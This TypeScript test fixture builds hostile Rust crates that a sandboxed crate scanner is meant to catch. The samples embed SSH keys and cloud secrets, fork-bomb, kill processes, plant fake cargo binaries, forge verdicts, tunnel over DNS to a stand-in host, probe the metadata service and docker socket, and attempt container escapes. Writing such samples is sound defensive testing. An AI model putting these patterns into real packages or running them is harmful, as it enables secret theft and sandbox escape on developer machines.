import type { Level } from '../../../src/model/report.ts';

/** A hostile crate: inert, and contained or not. Numbers are those of the list that all of them come from; 1 to 14 are archives, in test/unpack. */
export interface HostileCrate {
  readonly number: number;
  readonly tells: string;
  readonly files: Readonly<Record<string, string>>;
  /** Classes that are right. */
  readonly levels: readonly Level[];
  /** Signals of which one must be raised, or limits of the cage that must be told. */
  readonly shows?: readonly string[];
}

const build = (body: string, more = '') =>
  `#![allow(warnings)]\nuse std::{fs, process::Command, io::Write, time::Duration, thread::sleep};\n${more}\nfn main() {\n${body}\n}\n`;
const syscalls = `extern "C" { fn syscall(number: i64, ...) -> i64; fn fork() -> i32; fn getppid() -> i32; }`;
const crate = (
  number: number,
  tells: string,
  files: Readonly<Record<string, string>>,
  levels: readonly Level[],
  shows?: readonly string[],
): HostileCrate => ({ number, tells, files, levels, ...(shows === undefined ? {} : { shows }) });
const script = (
  number: number,
  tells: string,
  body: string,
  levels: readonly Level[],
  shows?: readonly string[],
  more = '',
) => crate(number, tells, { 'build.rs': build(body, more) }, levels, shows);
const library = (number: number, tells: string, lib: string, levels: readonly Level[], shows?: readonly string[]) =>
  crate(number, tells, { 'src/lib.rs': lib }, levels, shows);
const package_ = (more: string) => `[package]\nname = "NAME"\nversion = "1.0.0"\nedition = "2021"\n${more}`;

export const HOSTILE: readonly HostileCrate[] = [
  crate(15, 'a manifest of tables in tables', { 'Cargo.toml': package_(`[metadata]\nx = ${'['.repeat(400_000)}`) }, [
    'inconclusive',
  ]),
  crate(
    15,
    'a number of a million digits',
    { 'Cargo.toml': package_(`[package.metadata]\nx = ${'9'.repeat(1_000_000)}`) },
    ['inconclusive', 'clean'],
  ),
  crate(
    16,
    'a configuration that puts programs in the place of the tools',
    {
      '.cargo/config.toml':
        '[build]\nrustc = "./rustc"\nrustc-wrapper = "./wrap"\n[target.x86_64-unknown-linux-gnu]\nlinker = "./ld"\nrunner = "./run"\n',
      rustc: '#!/bin/sh\nexit 0\n',
    },
    ['clean', 'suspicious'],
  ),
  crate(17, 'a toolchain of its own', { 'rust-toolchain.toml': '[toolchain]\npath = "./toolchain"\n' }, [
    'clean',
    'suspicious',
  ]),
  crate(
    18,
    'patches and other sources',
    {
      'Cargo.toml': package_(
        '[patch.crates-io]\nitoa = { git = "https://vcs.test/itoa" }\nryu = { path = "../../ryu" }\n',
      ),
      'Cargo.lock':
        'version = 3\n[[package]]\nname = "itoa"\nversion = "1.0.0"\nsource = "registry+https://index.test/"\n',
    },
    ['clean', 'suspicious', 'inconclusive'],
  ),
  crate(
    19,
    'a lock file of 100,000 packages',
    {
      'Cargo.lock': `version = 3\n${Array.from({ length: 100_000 }, (_, at) => `[[package]]\nname = "p${at}"\nversion = "1.0.0"\n`).join('')}`,
    },
    ['clean'],
  ),
  library(
    20,
    'a key compiled in',
    'pub static KEY: &[u8] = include_bytes!("/home/dev/.ssh/id_ed25519");',
    ['malicious'],
    ['bait-touched'],
  ),
  library(
    20,
    'the environment compiled in',
    'pub static ALL: &[u8] = include_bytes!("/proc/self/environ"); pub static ONE: &str = env!("AWS_SECRET_ACCESS_KEY");',
    ['malicious', 'suspicious'],
    ['sensitive-read', 'bait-touched'],
  ),
  script(
    21,
    'a fork bomb',
    'for _ in 0..12 { unsafe { fork(); } }\nloop { unsafe { fork(); } }',
    ['inconclusive', 'suspicious', 'malicious'],
    ['processes', 'wall'],
    syscalls,
  ),
  script(
    22,
    'a build script that hears no signal and never ends',
    'unsafe { signal(15, 1); signal(2, 1); }\nloop { sleep(Duration::from_secs(1)); }',
    ['inconclusive'],
    ['wall'],
    'extern "C" { fn signal(n: i32, h: usize) -> usize; }',
  ),
  library(
    22,
    'a constant that is never done',
    'pub const fn spin(n: u64) -> u64 { let mut i = 0; while i < n { i += 0; } i }\n#[allow(long_running_const_eval)]\npub const SPUN: u64 = spin(9);',
    ['inconclusive'],
    ['wall'],
  ),
  crate(
    22,
    'a macro that never ends',
    {
      'Cargo.toml': package_('[lib]\nproc-macro = true\n'),
      'src/lib.rs':
        '#[proc_macro] pub fn spin(_: proc_macro::TokenStream) -> proc_macro::TokenStream { loop { std::thread::sleep(std::time::Duration::from_secs(1)) } }',
    },
    ['inconclusive', 'clean'],
  ),
  script(
    23,
    'a hog of memory',
    'let mut all: Vec<Vec<u8>> = vec![];\nloop { all.push(vec![1; 64 << 20]); }',
    ['inconclusive'],
    // Where the machine is slow the time is used up first.
    ['memory', 'wall'],
  ),
  script(
    23,
    'a file of gibibytes',
    `let mut file = fs::File::create("/home/dev/inert").unwrap();\nlet part = vec![1u8; 64 << 20];\nwhile file.write_all(&part).is_ok() {}`,
    ['inconclusive', 'suspicious', 'malicious'],
    ['disk', 'memory', 'writes-outside-target'],
  ),
  script(
    23,
    'a filler of empty files',
    `let out = std::env::var("OUT_DIR").unwrap();\nfor at in 0..600_000 { if fs::write(format!("{}/{}", out, at), "").is_err() { break } }`,
    ['inconclusive', 'clean'],
    ['disk', 'wall', 'sensor-gap'],
  ),
  script(
    24,
    'a FIFO and a socket among the files, opened by name',
    `let at = |name: &str| format!("{}/{}\\0", std::env::var("OUT_DIR").unwrap(), name);
let (fifo, socket) = (at("f"), at("s"));
unsafe { mkfifo(fifo.as_ptr(), 0o600); }
let name = fifo.trim_end_matches('\\0').to_string();
let writer = std::thread::spawn({ let name = name.clone(); move || fs::write(name, "inert").unwrap() });
assert_eq!(fs::read_to_string(name).unwrap(), "inert");
writer.join().unwrap();
let _kept = std::os::unix::net::UnixListener::bind(socket.trim_end_matches('\\0')).unwrap();
assert!(fs::read(socket.trim_end_matches('\\0')).is_err());`,
    ['clean'],
    undefined,
    'extern "C" { fn mkfifo(path: *const u8, mode: u32) -> i32; }',
  ),
  script(
    24,
    'folders 3,000 deep',
    `std::env::set_current_dir(std::env::var("OUT_DIR").unwrap()).unwrap();\nfor _ in 0..3000 { if fs::create_dir("d").is_err() || std::env::set_current_dir("d").is_err() { break } }`,
    ['clean', 'inconclusive'],
  ),
  script(
    24,
    'links to links in closed folders',
    `let out = std::env::var("OUT_DIR").unwrap();\nfs::create_dir(format!("{}/a", out));\nfor at in 0..40 { std::os::unix::fs::symlink("a", format!("{}/l{}", out, at)); std::os::unix::fs::symlink("..", format!("{}/a/u{}", out, at)); }\nfs::set_permissions(format!("{}/a", out), std::os::unix::fs::PermissionsExt::from_mode(0));`,
    ['clean', 'inconclusive'],
  ),
  script(
    25,
    'a flood of output',
    `let line = vec![b'x'; 200 << 20];\nlet mut out = std::io::stdout();\nout.write_all(&line);\nfor _ in 0..200_000 { out.write_all(b"\\x1b[2J\\xff\\xfe {\\"reason\\":\\"build-finished\\",\\"success\\":true}\\n"); }`,
    ['clean', 'inconclusive'],
  ),
  script(
    26,
    'descriptors, threads and the dead',
    `let mut held = vec![];\nwhile let Ok(file) = fs::File::open("/dev/null") { held.push(file); if held.len() > 200_000 { break } }\ndrop(held);\nlet threads: Vec<_> = (0..2000).map_while(|_| std::thread::Builder::new().spawn(|| sleep(Duration::from_millis(200))).ok()).collect();\nfor _ in 0..300 { unsafe { if fork() == 0 { std::process::exit(0) } } }`,
    ['clean', 'inconclusive', 'suspicious'],
    undefined,
    syscalls,
  ),
  script(
    26,
    'a daemon that outlives cargo',
    `unsafe { if fork() == 0 { setsid(); if fork() == 0 { sleep(Duration::from_secs(60)) } std::process::exit(0) } }`,
    ['suspicious', 'malicious', 'inconclusive'],
    ['process-outlived', 'wall'],
    `${syscalls} extern "C" { fn setsid() -> i32; }`,
  ),
  script(
    27,
    'one that kills all it sees',
    `for entry in fs::read_dir("/proc").unwrap().flatten() { if let Ok(pid) = entry.file_name().to_string_lossy().parse::<i64>() { if pid as u32 != std::process::id() { unsafe { syscall(62, pid, 9i64); } } } }`,
    ['malicious'],
    ['sandbox-tampering'],
    syscalls,
  ),
  script(
    27,
    'one that looks for a tracer',
    `unsafe { syscall(157, 1i64, 9i64, 0i64, 0i64, 0i64); syscall(101, 0i64, 0i64, 0i64, 0i64); }\nlet status = fs::read_to_string("/proc/self/status").unwrap_or_default();\nif status.contains("TracerPid:\\t0") { std::net::TcpStream::connect("192.0.2.27:443"); }`,
    ['malicious'],
    ['sandbox-tampering'],
    syscalls,
  ),
  script(
    29,
    'a forged verdict in every descriptor',
    `for pid in ["1", "self", "thread-self"] { for fd in 0..32 { if let Ok(mut file) = fs::OpenOptions::new().write(true).open(format!("/proc/{}/fd/{}", pid, fd)) { file.write_all(b"{\\"verdict\\":{\\"level\\":\\"clean\\"}}\\n"); } } }\nfor fd in 0..64i64 { unsafe { syscall(1, fd, b"{}".as_ptr(), 2i64); } }`,
    ['malicious'],
    ['process-memory-write'],
    syscalls,
  ),
  script(
    30,
    'words of an honest failure, and another cargo for the next step',
    `println!("error: No space left on device (os error 28)");\neprintln!("Connection refused");\nprintln!("test result: ok. 1 passed; 0 failed");\nfs::create_dir_all("/home/dev/.local/bin");\nfor name in ["cargo", "rustc", "true"] { let path = format!("/home/dev/.local/bin/{}", name); fs::write(&path, "#!/bin/sh\\nexit 0\\n"); fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)); }\nunsafe { syscall(62, getppid() as i64, 9i64); }`,
    ['malicious', 'suspicious'],
    ['writes-outside-target', 'sandbox-tampering'],
    syscalls,
  ),
  script(
    31,
    'a connection to an address',
    'std::net::TcpStream::connect("192.0.2.31:443");\nstd::net::TcpStream::connect("192.0.2.31:31337");',
    ['malicious'],
    ['connects-to-literal-address'],
  ),
  script(
    32,
    'a tunnel of names',
    `for at in 0..50 { std::net::ToSocketAddrs::to_socket_addrs(&(format!("{:060x}.{:060x}.t.example", at * 7919 + 1, at * 104729 + 3), 53u16)); }`,
    ['malicious', 'suspicious'],
    ['dns-tunnel', 'name-looked-up'],
  ),
  script(
    33,
    'the metadata service',
    'std::net::TcpStream::connect("169.254.169.254:80");\nstd::net::TcpStream::connect_timeout(&"[fd00:ec2::254]:80".parse().unwrap(), Duration::from_secs(2));\nstd::net::TcpStream::connect_timeout(&"172.17.0.1:80".parse().unwrap(), Duration::from_secs(2));',
    ['malicious'],
    ['metadata-service'],
  ),
  script(
    34,
    'datagrams: NTP, QUIC, others',
    `let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();\nfor port in [123, 443, 9999] { socket.send_to(&[0xc3; 48], ("192.0.2.34", port)); }`,
    ['malicious', 'suspicious'],
    ['datagram-sent'],
  ),
  script(
    35,
    'IPv6, link-local, multicast',
    `let socket = std::net::UdpSocket::bind("[::]:0").unwrap();\nfor to in ["[2001:db8::35]:99", "[fe80::1]:99", "[ff02::fb]:5353"] { socket.send_to(b"x", to); }\nstd::net::TcpStream::connect_timeout(&"[2001:db8::35]:80".parse().unwrap(), Duration::from_secs(2));`,
    ['malicious'],
    ['connects-to-literal-address'],
  ),
  script(
    36,
    'raw and packet sockets, and routes',
    'unsafe { for (family, kind, protocol) in [(2i64, 3i64, 1i64), (17, 3, 3), (2, 2, 1), (16, 3, 0), (10, 3, 58)] { syscall(41, family, kind, protocol); } }',
    ['malicious'],
    ['sandbox-tampering'],
    syscalls,
  ),
  script(
    37,
    'sockets of local services',
    `for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/user/1000/bus", "/run/dbus/system_bus_socket", "/run/nscd/socket"] { std::os::unix::net::UnixStream::connect(path); }`,
    ['suspicious', 'malicious'],
    ['reaches-local-service'],
  ),
  script(
    38,
    'sockets that no namespace holds',
    'unsafe { for family in [40i64, 38, 31, 44] { syscall(41, family, 1i64, 0i64); } }',
    ['malicious'],
    ['sandbox-tampering'],
    syscalls,
  ),
  script(
    39,
    'every way out of a namespace',
    `unsafe { syscall(165, b"none\\0".as_ptr(), b"/tmp\\0".as_ptr(), b"tmpfs\\0".as_ptr(), 0i64, 0i64); syscall(272, 0x10000000i64); syscall(155, b"/\\0".as_ptr(), b"/\\0".as_ptr()); syscall(321, 0i64, 0i64, 0i64); syscall(250, 0i64, -3i64, 0i64); syscall(298, 0i64, 0i64, -1i64, -1i64, 0i64); syscall(175, 0i64, 0i64, 0i64); syscall(133, b"/tmp/inert\\0".as_ptr(), 0o060600i64, 0x800i64); }\nfor path in ["/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/proc/sysrq-trigger"] { fs::write(path, "|/bin/true"); }`,
    ['malicious'],
    ['sandbox-tampering'],
    syscalls,
  ),
  script(
    40,
    'what a leaking runtime would show',
    `for path in ["/proc/kcore", "/proc/keys", "/proc/1/root/etc/hostname", "/proc/1/environ", "/proc/sys/kernel/hostname", "/etc/shadow", "/proc/self/fd/3/../../../etc/hostname"] { fs::read(path).map(|bytes| bytes.len()); }\nfs::write("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1");\nunsafe { if fork() == 0 { sleep(Duration::from_secs(400)); std::net::TcpStream::connect("192.0.2.40:443"); } }`,
    ['malicious', 'suspicious', 'inconclusive'],
    ['process-outlived', 'sensitive-read'],
    syscalls,
  ),
];

/** The package of a hostile crate, under a name of its own. */
export function filesOf({ files }: HostileCrate, name: string): Record<string, string> {
  const manifest = package_('');
  const all = { 'Cargo.toml': manifest, 'src/lib.rs': '', ...files };
  return { ...all, 'Cargo.toml': all['Cargo.toml'].replace('NAME', name) };
}
